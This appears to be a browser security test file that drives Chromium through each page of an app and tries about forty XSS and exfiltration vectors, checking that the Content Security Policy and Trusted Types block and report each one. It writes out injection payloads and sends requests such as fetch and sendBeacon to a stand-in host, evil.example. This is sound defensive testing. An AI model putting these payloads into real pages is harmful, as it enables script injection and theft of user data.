/** An attacker inside the page: what a hole in our own code could try, in each app of the real build in Chromium under the issuer's own policy. Nothing runs, nothing leaves, everything is reported. */
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Device, LAPTOP } from './devices.ts';
import { Issuer } from './issuer.ts';

let issuer: Issuer;
let device: Device;
/** What pages asked others for, and of that what the policy stopped before it left the browser: the debugger tells of both. */
const asked = new Map<Request, string>();
beforeAll(async () => {
  issuer = await Issuer.start();
  device = await Device.open({ viewport: LAPTOP, scale: 1 });
  device.context.on('request', (request) => {
    if (!request.url().startsWith(issuer.origin)) asked.set(request, 'left');
  });
  device.context.on('requestfailed', (request) => {
    if (asked.has(request)) asked.set(request, request.failure()?.errorText ?? 'failed');
  });
});
afterAll(async () => {
  await device?.close();
  await issuer?.remove();
});

interface Outcome {
  /** of each try: the error that it threw, or the directives that were reported */
  readonly answers: Readonly<Record<string, string>>;
  readonly ran: readonly string[];
}

/** Tries everything inside the page, with its own globals. `evaluate` itself comes by the debugger, which no policy stops. */
function attack(page: Page): Promise<Outcome> {
  return page.evaluate(async () => {
    const scope = globalThis as typeof globalThis & { ran: string[]; bring: (url: string) => Promise<unknown>; judge: (text: string) => unknown };
    scope.ran = [];
    const answers: Record<string, string> = {};
    const add = <T extends HTMLElement>(element: T): T => document.body.appendChild(element);
    const make = <K extends keyof HTMLElementTagNameMap>(tag: K, attributes: Record<string, string> = {}): HTMLElementTagNameMap[K] => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      return element;
    };
    const evil = 'https://evil.example';
    const blob = () => URL.createObjectURL(new Blob(["globalThis.ran?.push('blob'); postMessage(1)"], { type: 'text/javascript' }));
    const tries: Record<string, () => unknown> = {
      innerHTML: () => {
        document.createElement('div').innerHTML = '<img src=x onerror="ran.push(\'innerHTML\')">';
      },
      outerHTML: () => {
        add(make('div')).outerHTML = '<b></b>';
      },
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b></b>'),
      'document.write': () => document.write("<script>ran.push('write')</script>"),
      'script.text': () => {
        make('script').text = "ran.push('text')";
      },
      'script.src': () => {
        make('script').src = `${evil}/x.js`;
      },
      'a script as text nodes': () => {
        const script = document.createElement('script');
        script.append("ran.push('nodes')");
        add(script as unknown as HTMLElement);
      },
      eval: () => scope.judge("globalThis.ran.push('eval')"),
      Function: () => new Function("ran.push('Function')")(),
      'a text for setTimeout': () => setTimeout("ran.push('setTimeout')" as unknown as () => void, 0),
      'import()': () => scope.bring(`${evil}/x.js`),
      'import() of data': () => scope.bring("data:text/javascript,globalThis.ran.push('import')"),
      'a worker of a blob': () => new Worker(blob()),
      'a worker of data': () => new Worker('data:text/javascript,postMessage(1)'),
      'a shared worker': () => new SharedWorker(blob()),
      'another service worker': () => navigator.serviceWorker.register('/evil.js'),
      'a policy of one’s own': () =>
        (scope as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('default', {
          createHTML: (text: string) => text,
        }),
      'the policy’s name again': () =>
        (scope as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('sw', {
          createScriptURL: (text: string) => text,
        }),
      srcdoc: () => {
        make('iframe').srcdoc = "<script>parent.ran.push('srcdoc')</script>";
      },
      'an inline handler': () => add(make('button', { onclick: "ran.push('handler')" })).click(),
      'a javascript: link': () => add(make('a', { href: "javascript:ran.push('javascript')" })).click(),
      'an inline style': () => add(make('p', { style: 'background: url(https://evil.example/style)' })),
      'a style element': () => {
        const style = document.createElement('style');
        style.append("@import 'https://evil.example/x.css'");
        document.head.append(style);
      },
      'a picture of others': () => add(make('img', { src: `${evil}/pixel` })),
      'a connection': () => fetch(`${evil}/leak`),
      XMLHttpRequest: () => {
        const sent = new XMLHttpRequest();
        sent.open('GET', `${evil}/leak`);
        sent.send();
      },
      'a beacon': () => navigator.sendBeacon(`${evil}/leak`, 'x'),
      'a socket': () => new WebSocket('wss://evil.example/'),
      'an event source': () => new EventSource(`${evil}/`),
      'a form': () => add(make('form', { action: `${evil}/form`, method: 'post' })).submit(),
      'a form to ourselves': () => add(make('form', { action: '/api/enrol', method: 'post' })).submit(),
      'a frame': () => add(make('iframe', { src: `${evil}/frame` })),
      'a frame of ourselves': () => add(make('iframe', { src: '/' })),
      'an object': () => add(make('object', { data: `${evil}/object` })),
      'an embed': () => add(make('embed', { src: `${evil}/embed` })),
      'a base': () => document.head.append(make('base', { href: `${evil}/` })),
      'a style sheet of others': () => document.head.append(make('link', { rel: 'stylesheet', href: `${evil}/x.css` })),
      'a preload of others': () => document.head.append(make('link', { rel: 'preload', as: 'script', href: `${evil}/x.js` })),
      'a font of others': () => new FontFace('x', `url(${evil}/x.woff2)`).load(),
      'a video of others': () => add(make('video', { src: `${evil}/x.mp4` })),
    };
    for (const [name, run] of Object.entries(tries)) {
      const reported: string[] = [];
      const listen = ({ effectiveDirective }: SecurityPolicyViolationEvent) => reported.push(effectiveDirective);
      document.addEventListener('securitypolicyviolation', listen);
      let thrown = '';
      try {
        await Promise.race([run(), new Promise((later) => setTimeout(later, 400))]);
      } catch (error) {
        thrown = error instanceof Error ? error.name : String(error);
      }
      for (let waited = 0; waited < 20 && reported.length === 0; waited += 1) await new Promise((later) => setTimeout(later, 25));
      document.removeEventListener('securitypolicyviolation', listen);
      answers[name] = reported[0] ?? (thrown === '' ? 'nothing' : `threw ${thrown}`);
    }
    return { answers, ran: scope.ran };
  });
}

/** The app's own manifest changed for another one: a browser reads it when somebody installs, or when it is told to. */
async function manifestOfOthers(page: Page): Promise<string> {
  const reported = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true });
        setTimeout(resolve, 5_000, 'nothing');
        document.querySelector('link[rel=manifest]')?.setAttribute('href', 'https://evil.example/x.json');
      }),
  );
  const devTools = await page.context().newCDPSession(page);
  await devTools.send('Page.getAppManifest').catch(() => undefined);
  await devTools.detach();
  return reported;
}

const TYPES = 'require-trusted-types-for';
const POLICIES = 'trusted-types';
/** The directive that each is reported under. */
const EXPECTED: Readonly<Record<string, string>> = {
  innerHTML: TYPES,
  outerHTML: TYPES,
  insertAdjacentHTML: TYPES,
  'document.write': TYPES,
  'script.text': TYPES,
  'script.src': TYPES,
  'a script as text nodes': TYPES,
  eval: TYPES,
  Function: TYPES,
  'a text for setTimeout': TYPES,
  'import()': 'script-src-elem',
  'import() of data': 'script-src-elem',
  'a worker of a blob': TYPES,
  'a worker of data': TYPES,
  'a shared worker': TYPES,
  'another service worker': TYPES,
  'a policy of one’s own': POLICIES,
  'the policy’s name again': POLICIES,
  srcdoc: TYPES,
  'an inline handler': TYPES,
  'a javascript: link': 'script-src-elem',
  'an inline style': 'style-src-attr',
  'a style element': 'style-src-elem',
  'a picture of others': 'img-src',
  'a connection': 'connect-src',
  XMLHttpRequest: 'connect-src',
  'a beacon': 'connect-src',
  'a socket': 'connect-src',
  'an event source': 'connect-src',
  'a form': 'form-action',
  'a form to ourselves': 'form-action',
  'a frame': 'frame-src',
  'a frame of ourselves': 'frame-src',
  'an object': TYPES,
  'an embed': TYPES,
  'a base': 'base-uri',
  'a style sheet of others': 'style-src-elem',
  'a preload of others': 'script-src-elem',
  'a font of others': 'font-src',
  'a video of others': 'media-src',
};

test.each(['/', '/neutral', '/gate', '/audit', '/desk', '/design'])(
  '%s: nothing that a hole could write runs or leaves, and each try is reported',
  async (path) => {
    await device.page.goto(issuer.origin + path);
    await device.page.locator('main, h1').first().waitFor();
    asked.clear();
    // as text: a test runner would put its own import in the place of the browser's
    await device.page.evaluate('globalThis.bring = (url) => import(url); globalThis.judge = eval; undefined');
    const { answers, ran } = await attack(device.page);
    expect(ran).toEqual([]);
    expect(answers).toEqual(EXPECTED);
    // data: and blob: are asked for too, and stopped the same way
    await expect.poll(() => new Set(asked.values())).toEqual(new Set(['csp']));
    expect(await manifestOfOthers(device.page)).toBe('manifest-src');
    expect(new URL(device.page.url()).origin).toBe(issuer.origin);
  },
);
